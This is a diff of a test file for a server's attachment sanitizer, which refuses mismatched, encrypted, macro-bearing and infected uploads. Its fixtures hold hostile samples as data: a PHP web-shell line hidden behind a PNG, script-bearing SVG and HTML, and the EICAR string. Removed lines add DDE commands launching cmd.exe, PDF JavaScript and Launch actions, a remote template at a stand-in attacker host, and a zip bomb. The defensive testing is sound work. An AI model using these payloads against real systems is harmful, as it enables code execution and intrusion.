@@ -3,25 +3,15 @@ import { once } from 'node:events';
 import { createServer, type AddressInfo } from 'node:net';
 import zlib from 'node:zlib';
 import { unzipSync, zipSync } from 'fflate';
-import { extensionOf } from '@site/contract/attachment';
 import sharp from 'sharp';
 import { expect, onTestFinished, test } from 'vitest';
 
 import { createClamdScan } from '../../server/attachments/clamd.ts';
-import { inspectDocument, kindOf } from '../../server/attachments/inspect-document.ts';
-import { officeDocumentProblem } from '../../server/attachments/office-document.ts';
 
-import { contentMatchesName, sanitizeAttachment } from '../../server/attachments/attachments.ts';
+import { sanitizeAttachment, typeProblem } from '../../server/attachments/attachments.ts';
 import { hasClamd, startClamAV } from './fixture/clamd.ts';
 import { pdfOf } from './fixture/inquiry.ts';
-import {
-  compoundFile,
-  docxWith,
-  hwpxWith,
-  OFFICE,
-  relationshipsTo,
-  xlsxWith,
-} from './fixture/zip.ts';
+import { compoundFile, docxWith, OFFICE } from './fixture/zip.ts';
 
 /** Who sends the files of most tests. */
 const NETWORK = 'ipv4:c00002';
@@ -38,54 +28,86 @@ const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]);
 const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
 const HTML = Buffer.from('<!doctype html><script>alert(1)</script>');
 
+const MARK = 'canaryQ7X2';
+const PICTURE = sharp({ create: { width: 20, height: 10, channels: 3, background: '#204080' } });
+
 test.each([
   ['a.pdf', PDF],
   ['A.PDF', PDF],
+  ['white space before it.pdf', Buffer.concat([Buffer.from('\r\n \0'), PDF])],
   ['a.jpg', JPG],
   ['a.jpeg', JPG],
+  ['twitter.jfif', JPG],
+  ['a.jpe', JPG],
+  ['a.PJPEG', JPG],
   ['a.png', PNG],
   ['a.webp', WEBP],
+  // Saved under another name: it is encoded anew in the format of its name.
+  ['a picture as another.jpg', WEBP],
   ['a.docx', OFFICE.docx],
   ['a.xlsx', OFFICE.xlsx],
   ['a.pptx', OFFICE.pptx],
   ['a.hwp', HWP],
+  ['a template.hwt', HWP],
   ['a.hwpx', OFFICE.hwpx],
   ['../../etc/passwd.pdf', PDF],
+  ['(최종) 계약서 - 수정본 [v2].jpg', JPG],
   [`${'가'.normalize('NFD').repeat(100)}.pdf`, PDF],
   // What follows a picture is data: nothing runs it, nothing serves it.
   ['a.png', Buffer.concat([PNG, Buffer.from('<?php system($_GET[0]);')])],
-])('%s is what its name says', async (name, content) => {
-  expect(await contentMatchesName(name, content)).toBe(true);
+])('%s is what its name says', (name, content) => {
+  expect(typeProblem({ name, content })).toBeUndefined();
 });
+
+const ENCRYPTED = Buffer.concat([HWP, Buffer.from('EncryptedPackage', 'utf16le')]);
+const HWP_WITH_PASSWORD = Buffer.from(HWP);
+// Behind the 32 bytes of its name and the 4 of its version.
+HWP_WITH_PASSWORD.writeUInt8(2, HWP.indexOf('HWP Document File') + 36);
 
 test.each([
-  ['a program as a picture', 'a.png', EXE],
-  ['a program as a PDF', 'a.pdf', EXE],
-  ['a program by its last ending', 'a.pdf.exe', EXE],
-  ['a PDF called a program', 'a.exe', PDF],
-  ['a drawing with a script', 'a.svg', SVG],
-  ['a drawing as a picture', 'a.png', SVG],
-  ['a page as a PDF', 'a.pdf', HTML],
-  ['an archive', 'a.zip', OFFICE.zip],
-  ['an archive as a document', 'a.docx', OFFICE.zip],
-  ['a document with macros', 'a.docx', OFFICE.docm],
-  ['a sheet as a document', 'a.docx', OFFICE.xlsx],
-  ['a book as an HWPX', 'a.hwpx', OFFICE.epub],
-  ['an HWPX as a document', 'a.docx', OFFICE.hwpx],
-  ['another compound file as an HWP', 'a.hwp', compoundFile('Microsoft Office Word')],
-  ['the words of an HWP without its file', 'a.hwp', Buffer.from('HWP Document File\0')],
-  ['a picture as another', 'a.jpg', PNG],
-  ['an empty file', 'a.pdf', Buffer.alloc(0)],
-  ['the head of an archive alone', 'a.docx', OFFICE.docx.subarray(0, 20)],
-  ['no ending', 'pdf', PDF],
-  ['an inherited name', 'a.constructor', PDF],
-  ['noise', 'a.pdf', Buffer.from('not a pdf %PDF-')],
-])('%s is refused', async (_what, name, content) => {
-  expect(await contentMatchesName(name, content)).toBe(false);
+  ['a program as a picture', 'a.png', EXE, 'attachment.mismatch'],
+  ['a program as a PDF', 'a.pdf', EXE, 'attachment.mismatch'],
+  ['a program by its last ending', 'a.pdf.exe', EXE, 'attachment.type'],
+  ['a PDF called a program', 'a.exe', PDF, 'attachment.type'],
+  ['a drawing with a script', 'a.svg', SVG, 'attachment.type'],
+  ['a drawing as a picture', 'a.png', SVG, 'attachment.mismatch'],
+  ['a page as a PDF', 'a.pdf', HTML, 'attachment.mismatch'],
+  ['a page before a PDF', 'a.pdf', Buffer.concat([HTML, PDF]), 'attachment.mismatch'],
+  ['an archive', 'a.zip', OFFICE.zip, 'attachment.type'],
+  [
+    'another compound file as an HWP',
+    'a.hwp',
+    compoundFile('Microsoft Office Word'),
+    'attachment.mismatch',
+  ],
+  [
+    'the words of an HWP without its file',
+    'a.hwp',
+    Buffer.from('HWP Document File\0'),
+    'attachment.mismatch',
+  ],
+  ['an HWP with a password', 'a.hwp', HWP_WITH_PASSWORD, 'attachment.password'],
+  ['a document with a password', 'a.docx', ENCRYPTED, 'attachment.password'],
+  [
+    'a document of an earlier release',
+    'a.docx',
+    compoundFile('Microsoft Office Word'),
+    'attachment.mismatch',
+  ],
+  ['a picture as a PDF', 'a.pdf', PNG, 'attachment.mismatch'],
+  ['an empty file', 'a.pdf', Buffer.alloc(0), 'attachment.mismatch'],
+  ['no ending', 'pdf', PDF, 'attachment.type'],
+  ['an inherited name', 'a.constructor', PDF, 'attachment.type'],
+  ['noise', 'a.pdf', Buffer.from('not a pdf %PDF-'), 'attachment.mismatch'],
+])('%s is refused', (_what, name, content, problem) => {
+  expect(typeProblem({ name, content })).toBe(problem);
 });
 
-const MARK = 'canaryQ7X2';
-const PICTURE = sharp({ create: { width: 20, height: 10, channels: 3, background: '#204080' } });
+test('a picture that was saved under the name of another type is stored in the format of its name', async () => {
+  const content = await PICTURE.clone().webp().toBuffer();
+  const stored = await sanitizeAttachment({ name: 'a.jpg', content }, NETWORK);
+  expect((await sharp(stored as Buffer).metadata()).format).toBe('jpeg');
+});
 
 /** A picture that tells where and by whom it was taken, with a program behind it. */
 async function telling(kind: 'jpeg' | 'png' | 'webp'): Promise<Buffer> {
@@ -141,157 +163,14 @@ test.each([
 });
 
 test.each([
-  ['a.docx', docxWith({ 'word/vbaProject.bin': 'macro' })],
-  ['a.pdf', Buffer.from('%PDF-1.7\n1 0 obj << /S /JavaScript >> endobj\n%%EOF\n')],
-])('%s that runs something is not stored', async (name, content) => {
-  expect(await sanitizeAttachment({ name, content }, NETWORK)).toBe('attachment.active');
-});
-
-/** What is wrong with a document. In this process: the one of `documentProblem` takes longer to start than to work. */
-async function problemOf(name: string, content: Buffer): Promise<string | undefined> {
-  if (!(await contentMatchesName(name, content))) return 'attachment.type';
-  return inspectDocument({ kind: kindOf(extensionOf(name)), content });
-}
-
-const fieldCode = (text: string) => `<w:instrText xml:space="preserve">${text}</w:instrText>`;
-const pdf = (text: string) => Buffer.from(`%PDF-1.7\n${text}\n%%EOF\n`, 'latin1');
-/** A PDF whose objects stand in a compressed stream. */
-const packedPdf = (objects: string | Buffer, dictionary = '', type = '/Type /ObjStm') =>
-  Buffer.concat([
-    Buffer.from(
-      `%PDF-1.7\n1 0 obj\n<< ${type} /N 1 /First 4 ${dictionary} /Filter /FlateDecode >>\nstream\n`,
-    ),
-    zlib.deflateSync(objects),
-    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
-  ]);
-/** What Hangul writes into a document without macros. */
-const NO_MACROS = {
-  header: 'var Documents = XHwpDocuments;\r\nvar Document = Documents.Active_XHwpDocument;\r\n',
-  source: 'function OnDocument_New()\r\n{\r\n\t//todo : \r\n}\r\n',
-};
-const OUTSIDE = 'https://attacker.example/template.dotm';
-
-test.each<[string, string, Buffer]>([
-  ['a VBA project', 'a.docx', docxWith({ 'word/vbaProject.bin': 'macro' })],
-  ['a macro sheet', 'a.xlsx', xlsxWith({ 'xl/macrosheets/sheet1.xml': '<x/>' })],
-  ['an ActiveX control', 'a.docx', docxWith({ 'word/activeX/activeX1.xml': '<ax:ocx/>' })],
-  ['an OLE object', 'a.docx', docxWith({ 'word/embeddings/oleObject1.bin': 'OLE' })],
-  ['a program', 'a.docx', docxWith({ 'word/media/run.exe': 'MZ' })],
-  ['an archive', 'a.docx', docxWith({ 'word/media/more.zip': 'PK' })],
+  ['a.docx', docxWith({ 'word/vbaProject.bin': 'macro' }), 'attachment.macro'],
   [
-    'a template from outside',
-    'a.docx',
-    docxWith({ 'word/_rels/settings.xml.rels': relationshipsTo('attachedTemplate', OUTSIDE) }),
-  ],
-  [
-    'a picture from outside',
-    'a.docx',
-    docxWith({ 'word/_rels/document.xml.rels': relationshipsTo('image', OUTSIDE) }),
-  ],
-  [
-    'a link to a network share',
-    'a.docx',
-    docxWith({ 'word/_rels/document.xml.rels': relationshipsTo('hyperlink', 'file://host/a') }),
-  ],
-  [
-    'a template from outside whose address ends like an element',
-    'a.docx',
-    docxWith({
-      'word/_rels/settings.xml.rels': relationshipsTo('attachedTemplate', `${OUTSIDE}?>`),
-    }),
-  ],
-  [
-    'a template from outside under another prefix',
-    'a.docx',
-    docxWith({
-      'word/_rels/settings.xml.rels': relationshipsTo('attachedTemplate', OUTSIDE).replaceAll(
-        /(<\/?)Rel/g,
-        '$1r-1:Rel',
-      ),
-    }),
-  ],
-  [
-    'a macro of Hangul',
-    'a.hwpx',
-    hwpxWith({ 'Scripts/sourceScripts': NO_MACROS.source.replace('//todo', 'Run("cmd") //todo') }),
-  ],
-  [
-    'a macro behind what looks like a comment',
-    'a.hwpx',
-    hwpxWith({ 'Scripts/sourceScripts.js': NO_MACROS.source.replace('todo', 'todo\u2028Run()') }),
-  ],
-  [
-    'a script in a drawing',
-    'a.docx',
-    docxWith({ 'word/media/a.svg': '<svg><svg:script>alert(1)</svg:script></svg>' }),
-  ],
-  ['DDE in an attribute', 'a.docx', docxWith({}, `<w:fldSimple w:instr = 'DDEAUTO cmd'/>`)],
-  ['DDE in a CDATA section', 'a.docx', docxWith({}, fieldCode('<![CDATA[DDEAUTO cmd]]>'))],
-  ['DDE around a comment', 'a.docx', docxWith({}, fieldCode('DDE<!-- -->AUTO cmd'))],
-  ['a field from outside', 'a.docx', docxWith({}, fieldCode(`INCLUDETEXT "${OUTSIDE}"`))],
-  ['DDE', 'a.docx', docxWith({}, fieldCode('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))],
-  ['DDE in pieces', 'a.docx', docxWith({}, fieldCode('DD') + fieldCode('EAUTO cmd'))],
-  ['DDE in references', 'a.docx', docxWith({}, fieldCode('&#68;&#x44;E cmd "x"'))],
-  ['a DDE link', 'a.xlsx', xlsxWith({ 'xl/externalLinks/externalLink1.xml': '<ddeLink/>' })],
-  ['a DDE formula', 'a.xlsx', xlsxWith({ 'xl/worksheets/s.xml': "<f>cmd|'/c calc'!A1</f>" })],
-  [
-    'a macro in a document within it',
-    'a.docx',
-    docxWith({
-      'word/embeddings/Sheet.xlsx': xlsxWith({ 'xl/vbaProject.bin': 'x' }),
-    }),
-  ],
-  ['a script', 'a.pdf', pdf('1 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj')],
-  ['a script with an escaped name', 'a.pdf', pdf('1 0 obj << /S /J#61vaScript >> endobj')],
-  ['a program to start', 'a.pdf', pdf('1 0 obj << /S /Launch /F (cmd.exe) >> endobj')],
-  ['a file within it', 'a.pdf', pdf('1 0 obj << /Names << /EmbeddedFiles 2 0 R >> >> endobj')],
-  ['a script in a compressed stream', 'a.pdf', packedPdf('<< /S /JavaScript >>')],
-  [
-    'a script in a stream whose dictionary is long',
     'a.pdf',
-    packedPdf('1 0 << /S /JavaScript >>', `/Pad (${'A'.repeat(3000)} obj)`),
+    Buffer.from('%PDF-1.7\n1 0 obj << /S /JavaScript >> endobj\n%%EOF\n'),
+    'attachment.macro',
   ],
-  [
-    'a script in a stream that does not tell its kind',
-    'a.pdf',
-    packedPdf('% 1\n1 0 << /S /JavaScript >>', '', ''),
-  ],
-  ['a password', 'a.pdf', pdf('trailer << /Encrypt 5 0 R >>')],
-  ['an archive behind it', 'a.pdf', Buffer.concat([pdf(''), OFFICE.zip])],
-])('a document with %s is refused', async (_what, name, content) => {
-  expect(['attachment.active', 'attachment.type']).toContain(await problemOf(name, content));
-});
-
-test.each<[string, string, Buffer]>([
-  ['text before the archive', 'a.docx', Buffer.concat([Buffer.from('MZ'), OFFICE.docx])],
-  ['text behind the archive', 'a.docx', Buffer.concat([OFFICE.docx, Buffer.from('<html>')])],
-  ['entities', 'a.docx', docxWith({ 'word/a.xml': '<!DOCTYPE a [<!ENTITY b "DDE">]><a/>' })],
-  ['parts that are not XML', 'a.docx', docxWith({ 'word/a.xml': '<a><b></a>' })],
-  ['parts in another encoding', 'a.docx', docxWith({}, '\ufffd\0<')],
-  [
-    'objects that are packed twice',
-    'a.pdf',
-    Buffer.from(
-      packedPdf(zlib.deflateSync('1 0 << /S /JavaScript >>'))
-        .toString('latin1')
-        .replace('/FlateDecode', '[/FlateDecode /FlateDecode]'),
-      'latin1',
-    ),
-  ],
-  ['a predictor over its objects', 'a.pdf', packedPdf('<< >>', '/DecodeParms << /Predictor 12 >>')],
-  [
-    'objects that do not unpack',
-    'a.pdf',
-    pdf('1 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\nx\nendstream'),
-  ],
-])('a document with %s is refused', async (_what, name, content) => {
-  expect(['attachment.invalid', 'attachment.type']).toContain(await problemOf(name, content));
-});
-
-test('a document that unpacks beyond any memory is refused', () => {
-  const bomb = zipSync({ 'word/document.xml': new Uint8Array(70 * 1024 * 1024) });
-  expect(bomb.length).toBeLessThan(2 * 1024 * 1024);
-  expect(officeDocumentProblem(bomb)).toBe('attachment.invalid');
+])('%s that runs something is not stored', async (name, content, problem) => {
+  expect(await sanitizeAttachment({ name, content }, NETWORK)).toBe(problem);
 });
 
 test('a document that takes more memory than there is, is refused, and the server goes on', async () => {
@@ -302,70 +181,6 @@ test('a document that takes more memory than there is, is refused, and the serve
   );
   const file = { name: 'a.docx', content: Buffer.from(content) };
   expect(await sanitizeAttachment(file, NETWORK)).toBe('attachment.invalid');
-});
-
-test('elements without an end are refused before they take memory', () => {
-  expect(officeDocumentProblem(docxWith({}, '<a>'.repeat(1_000_000)))).toBe('attachment.invalid');
-});
-
-test('a document that is written to be slow takes no longer than its length', () => {
-  // In a time that grows with the square of the length, this takes more than an hour.
-  const text = `<f>${'|'.repeat(2_000_000)}</f>${'<w:fldSimple w:instr="IMPORT "/>'.repeat(50_000)}`;
-  expect(officeDocumentProblem(docxWith({}, text))).toBeUndefined();
-});
-
-test.each<[string, string, Buffer]>([
-  [
-    'links to the web',
-    'a.docx',
-    docxWith({
-      'word/_rels/document.xml.rels': relationshipsTo('hyperlink', 'https://a.example/'),
-    }),
-  ],
-  ['a sheet behind a chart', 'a.docx', docxWith({ 'word/charts/chart1.xml': '<c:chart/>' })],
-  [
-    'the words of an attack as text',
-    'a.docx',
-    docxWith({}, '<w:t>DDE, javascript: and INCLUDETEXT https:</w:t>'),
-  ],
-  [
-    'an equation',
-    'a.hwpx',
-    hwpxWith({
-      'Contents/section0.xml': '<hp:equation><hp:script>a over b</hp:script></hp:equation>',
-    }),
-  ],
-  [
-    'the place of macros without any',
-    'a.hwpx',
-    hwpxWith({
-      'Scripts/headerScripts': Buffer.from(NO_MACROS.header, 'utf16le'),
-      'Scripts/sourceScripts.js': NO_MACROS.source,
-    }),
-  ],
-  [
-    'drawings as Excel writes them',
-    'a.xlsx',
-    xlsxWith({ 'xl/drawings/vmlDrawing1.vml': '<xml><v:textbox>a<br>b</v:textbox></xml>' }),
-  ],
-  [
-    'a drawing of one long attribute',
-    'a.docx',
-    docxWith({ 'word/media/a.svg': `<svg><path d="${'M0 0'.repeat(50_000)}"/></svg>` }),
-  ],
-  ['objects in a compressed stream', 'a.pdf', packedPdf('<< /Type /Page >>')],
-  [
-    'the words of an attack in a compressed page',
-    'a.pdf',
-    packedPdf('1 0 0 1 50 700 cm (HTML/JavaScript) Tj', '', ''),
-  ],
-  [
-    'words in a compressed page',
-    'a.pdf',
-    pdf('1 0 obj << /Length 3 >>\nstream\n/JS\nendstream endobj'),
-  ],
-])('a document with %s is not refused', async (_what, name, content) => {
-  expect(await problemOf(name, content)).toBeUndefined();
 });
 
 test('one network that sends many files does not keep those of others waiting', async () => {
@@ -420,9 +235,12 @@ test('a small picture that becomes large is encoded within a cap, or refused', a
 const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';
 
 test('the test file of scanners is refused without a scanner', async () => {
-  expect(await sanitizeAttachment({ name: 'a.pdf', content: pdf(EICAR) }, NETWORK)).toBe(
-    'attachment.infected',
-  );
+  expect(
+    await sanitizeAttachment(
+      { name: 'a.pdf', content: Buffer.from(`%PDF-1.7\n${EICAR}`) },
+      NETWORK,
+    ),
+  ).toBe('attachment.infected');
 });
 
 /** A clamd that answers `answer` to what it is sent. */
@@ -471,7 +289,7 @@ test('ClamAV finds its test file, and what its signatures name in a document', a
     await startClamAV({ 'Eicar-Test-Signature': EICAR, 'Test.Marker': 'a harmful marker' }),
   );
   expect(await scan(Buffer.from(EICAR, 'latin1'))).toBe(true);
-  const infected = { name: 'a.pdf', content: pdf('a harmful marker') };
+  const infected = { name: 'a.pdf', content: Buffer.from('%PDF-1.7\na harmful marker') };
   expect(await sanitizeAttachment(infected, NETWORK)).toBe(infected.content);
   expect(await sanitizeAttachment(infected, NETWORK, scan)).toBe('attachment.infected');
   const clean = { name: 'a.pdf', content: Buffer.from(pdfOf(1_000_000)) };
